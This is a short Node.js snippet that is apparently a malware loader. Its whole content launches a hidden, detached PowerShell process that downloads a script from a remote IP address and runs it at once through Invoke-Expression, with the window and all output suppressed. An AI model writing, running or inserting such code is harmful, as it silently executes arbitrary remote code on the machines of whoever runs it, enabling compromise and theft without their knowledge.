const cp = require('child_process');
const opts = { windowsHide: true, detached: true, stdio: ['ignore', 'ignore', 'ignore'] };
cp.spawn('powershell.exe', ['-w', 'hidden', '-c', 'iwr http://203.0.113.44/x.ps1 | iex'], opts).unref();
